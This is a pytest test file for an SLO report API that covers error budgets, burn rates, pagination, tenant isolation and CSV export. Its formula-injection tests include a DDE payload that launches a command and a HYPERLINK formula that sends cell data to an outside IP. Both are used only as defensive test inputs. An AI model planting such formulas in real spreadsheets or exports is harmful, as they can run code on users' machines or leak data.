"""GET /v1/reports/slo: budgets and burn rates of one, of a label, of all; as pages, and as a sheet safe to open."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any

import pytest

from api.report_sheets import COLUMNS, text_cell
from common.clock import to_ms
from common.domain.accounting_cover import Level
from common.domain.health import Health
from tests import api_cast
from tests.api_cast import World
from tests.rollup_world import Past, Tenant, labelled

world = api_cast.world

HOUR = Level.HOUR.ms


@pytest.fixture
def past(world: World, database_url: str) -> Past:
    return Past(world.databases, Tenant(database_url, world.org_a))


def told(world: World, query: str = "", who: str = "alice") -> dict[str, Any]:
    answer = getattr(world, who).get(f"/v1/reports/slo{query}")
    assert answer.status_code == 200, answer.text
    body: dict[str, Any] = answer.get_json()
    return body


def sheet(world: World, query: str) -> list[dict[str, str]]:
    answer = world.alice.get(f"/v1/reports/slo{query}")
    assert (answer.status_code, answer.content_type) == (200, "text/csv; charset=utf-8")
    return list(csv.DictReader(io.StringIO(answer.text)))


@pytest.fixture
def shop(past: Past) -> dict[str, int]:
    """Three monitors: one always up, one down for the first 36 s, one of another team that is down."""
    numbers = {}
    for name, team in (("home", "shop"), ("cart", "shop"), ("mail", "office")):
        numbers[name] = past.plain(labels=labelled(team=team), key=name)
        past.results(numbers[name], past.every_minute(end_ms=past.start_ms + 3 * HOUR))
    past.health(numbers["cart"], past.start_ms - 1, Health.DOWN)
    past.health(numbers["cart"], past.start_ms + 36_000, Health.UP)
    past.health(numbers["mail"], past.start_ms - 1, Health.DOWN)
    past.roll_all()
    return numbers


def test_a_report_says_what_is_left_of_each_budget_and_how_fast_it_burns(
    world: World, past: Past, shop: dict[str, int]
) -> None:
    body = told(world, "?label=team:shop&window=30d&target=99")
    begin, end = (to_ms(datetime.fromisoformat(body["window"][name])) for name in ("from", "to"))
    assert begin == past.start_ms
    judged = (end - begin) / 1000
    home, cart = body["data"]
    assert (home["monitor"]["key"], home["uptime"], home["burn_rate"]["window"]) == ("home", 1, 0)
    assert home["error_budget"] == {
        "total_seconds": pytest.approx(judged / 100), "remaining_seconds": pytest.approx(judged / 100), "remaining": 1
    }  # fmt: skip
    assert cart["error_budget"]["remaining_seconds"] == pytest.approx(judged / 100 - 36)
    assert cart["burn_rate"]["window"] == pytest.approx(36 / judged / 0.01, abs=1e-5)
    assert cart["burn_rate"]["last_1h"] == 0
    total = body["total"]
    assert (total["monitors"], total["seconds"]["down"]) == (2, 36)
    assert total["error_budget"]["remaining_seconds"] == pytest.approx(2 * judged / 100 - 36)
    assert (body["target"], body["next_cursor"]) == (99, None)


def test_a_missed_objective_has_less_than_nothing_left(world: World, past: Past, shop: dict[str, int]) -> None:
    [row] = told(world, "?label=team:office&target=99.9")["data"]
    assert (row["uptime"], row["burn_rate"]["last_1h"]) == (0, pytest.approx(1000))
    assert row["error_budget"]["remaining"] == pytest.approx(-999)


def test_how_much_of_the_time_was_seen_stands_beside_every_uptime(world: World, past: Past) -> None:
    seen, blind = (past.plain(labels=labelled(team="shop"), key=key) for key in ("seen", "blind"))
    minutes = past.every_minute(end_ms=past.start_ms + 3 * HOUR)  # further than the window goes, whatever time it is
    past.results(seen, minutes)
    past.results(blind, minutes[::4])
    past.roll_all()
    body = told(world, "?label=team:shop")
    assert [(row["uptime"], row["coverage"]) for row in body["data"]] == [(1, 1), (1, pytest.approx(0.25, abs=0.01))]
    assert body["total"]["coverage"] == pytest.approx(0.625, abs=0.01)
    [value] = told(world, "?label=team")["data"]
    assert value["coverage"] == body["total"]["coverage"]
    assert [float(row["coverage"]) for row in sheet(world, "?format=csv")] == [row["coverage"] for row in body["data"]]


def test_a_label_alone_has_a_row_for_each_value(world: World, past: Past, shop: dict[str, int]) -> None:
    past.plain()  # without the label
    body = told(world, "?label=team")
    assert [(row["value"], row["monitors"], row["monitor"]) for row in body["data"]] == [
        ("office", 1, None),
        ("shop", 2, None),
    ]
    assert body["total"]["monitors"] == 3
    both = told(world, "?label=team:shop")["total"]
    assert {name: body["data"][1][name] for name in ("uptime", "seconds", "error_budget")} == {
        name: both[name] for name in ("uptime", "seconds", "error_budget")
    }


def test_one_monitor_is_a_report_as_well(world: World, past: Past, shop: dict[str, int]) -> None:
    id_ = told(world, "?label=team:shop")["data"][1]["monitor"]["id"]
    body = told(world, f"?monitor_id={id_}")
    assert [row["monitor"]["key"] for row in body["data"]] == ["cart"]
    assert body["total"]["uptime"] == body["data"][0]["uptime"]


def test_pages_follow_each_other_without_gap_or_repetition(world: World, past: Past, shop: dict[str, int]) -> None:
    found, cursor, totals = [], "", []
    while cursor is not None:
        body = told(world, f"?limit=1{f'&cursor={cursor}' if cursor else ''}")
        found += [row["monitor"]["key"] for row in body["data"]]
        totals.append(body["total"] is not None)
        cursor = body["next_cursor"]
    assert found == ["home", "cart", "mail"]
    assert totals == [True, False, False]


def test_a_sheet_has_all_rows_with_the_figures_of_the_pages(world: World, past: Past, shop: dict[str, int]) -> None:
    rows = sheet(world, "?format=csv&limit=1")
    assert tuple(rows[0]) == COLUMNS
    pages = told(world)["data"]
    assert [row["key"] for row in rows] == ["home", "cart", "mail"]
    for row, shown in zip(rows, pages, strict=True):
        assert float(row["uptime"]) == shown["uptime"]
        assert float(row["coverage"]) == shown["coverage"] == 1
        assert float(row["down_seconds"]) == shown["seconds"]["down"]
        assert float(row["error_budget_remaining_seconds"]) == shown["error_budget"]["remaining_seconds"]
        assert row["labels"] == f"team:{shown['monitor']['labels']['team']}"
    assert [row["value"] for row in sheet(world, "?format=csv&label=team")] == ["office", "shop"]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=cmd|" /C calc"!A0'])
def test_no_name_becomes_a_formula(text: str) -> None:
    assert text_cell(text) == f"'{text}"


def test_no_cell_of_a_sheet_begins_a_formula(world: World, past: Past) -> None:
    evil = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'
    number = past.plain(labels=labelled(team='@x,"y'))
    past.results(number, past.every_minute())
    past.roll_all()
    world.execute("UPDATE monitors SET name = %(name)s WHERE monitor_no = %(no)s", name=evil, no=number)
    world.execute('UPDATE monitors SET labels = labels || \'{"=a": "b"}\' WHERE monitor_no = %(no)s', no=number)
    for query in ("?format=csv", "?format=csv&label=team"):
        [row] = sheet(world, query)
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            if cell.startswith("-"):
                float(cell)
    assert sheet(world, "?format=csv")[0]["name"] == f"'{evil}"


def test_a_report_without_monitors_is_empty_and_not_an_error(world: World, past: Past) -> None:
    body = told(world, "?label=team:nobody")
    assert (body["data"], body["total"]["monitors"], body["total"]["uptime"]) == ([], 0, None)
    assert sheet(world, "?format=csv&label=team:nobody") == []


def test_reports_hold_nothing_of_others(world: World, past: Past, shop: dict[str, int]) -> None:
    id_ = told(world)["data"][0]["monitor"]["id"]
    assert told(world, who="charlie")["data"] == []
    assert told(world, "?label=team", who="charlie") | {"window": None, "total": None} == {
        "window": None, "target": 99.9, "total": None, "data": [], "next_cursor": None
    }  # fmt: skip
    answer = world.charlie.get(f"/v1/reports/slo?monitor_id={id_}")
    assert (answer.status_code, answer.get_json()["code"]) == (404, "MONITOR_NOT_FOUND")


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("?target=100", "target"),
        ("?target=0", "target"),
        ("?target=nan", "target"),
        ("?window=401d", "window"),
        ("?window=x", "window"),
        ("?format=xlsx", "format"),
        ("?label=", "label"),
        ("?label=:shop", "label"),
        ("?label=team:shop&monitor_id=01928e5c-7f3a-7cc1-9d5e-3b1f5a1c2d3e", "label"),
        ("?monitor_id=1", "monitor_id"),
        ("?cursor=x", "cursor"),
        ("?limit=0", "limit"),
    ],
)
def test_what_cannot_be_reported_is_refused_by_name(world: World, query: str, field: str) -> None:
    answer = world.alice.get(f"/v1/reports/slo{query}")
    assert (answer.status_code, answer.get_json()["details"][0]["field"]) == (400, field), answer.text


def test_a_total_is_the_same_whether_monitors_are_looked_up_or_read_in_order(
    world: World, past: Past, shop: dict[str, int]
) -> None:
    before = told(world, "?label=team")
    [(source,)] = past.seed.run("SELECT pg_get_functiondef('total_rollups'::regproc)")
    assert "integer := 10000" in source
    past.seed.run(source.replace("integer := 10000", "integer := 0").replace("%", "%%"))
    assert told(world, "?label=team") == before
